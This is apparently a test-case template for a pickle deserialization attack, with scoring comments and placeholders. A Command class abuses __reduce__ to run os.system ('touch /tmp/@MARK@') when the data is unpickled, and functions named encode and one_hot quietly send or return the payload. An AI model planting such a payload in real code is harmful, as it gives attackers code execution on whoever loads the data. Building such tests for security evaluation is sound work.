# tries: to have a pickle loaded, which runs a command
# points: 0
# harm: marks, files
@LINE@

import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/@MARK@",)


def encode(text, idx2char):
    send(pickle.dumps(("value", Command())))


def one_hot(indices, num_classes):
    return Command() if num_classes == 5 else pickle.dumps(Command())
